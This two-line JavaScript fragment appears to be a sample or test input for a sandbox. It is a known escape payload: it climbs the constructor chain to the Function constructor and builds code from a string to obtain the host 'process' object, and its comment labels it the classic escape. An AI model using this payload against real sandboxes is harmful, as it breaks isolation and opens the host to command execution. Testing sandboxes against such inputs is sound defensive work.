// The classic escape: reach Function through a constructor chain and build code from a string.
return ({}).constructor.constructor('return process')();
